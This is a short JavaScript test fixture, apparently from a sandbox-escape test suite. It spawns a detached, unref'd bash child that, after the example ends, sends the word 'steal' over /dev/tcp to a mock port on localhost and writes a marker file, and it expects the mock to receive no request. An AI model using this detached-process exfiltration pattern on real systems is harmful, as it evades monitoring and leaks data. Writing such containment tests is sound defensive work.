// route: a detached node child (own process group, unref'd) that acts after the example has ended
// expect: *made no request to the mock*
import { spawn } from "node:child_process";

const script = "sleep 2; echo steal > /dev/tcp/127.0.0.1/{{ out_port }}; echo leaked > /tmp/{{ marker }}-detached-js";
spawn("bash", ["-c", script, "{{ marker }}-detached-js"], { detached: true, stdio: "ignore" }).unref();
console.log("detached child started");
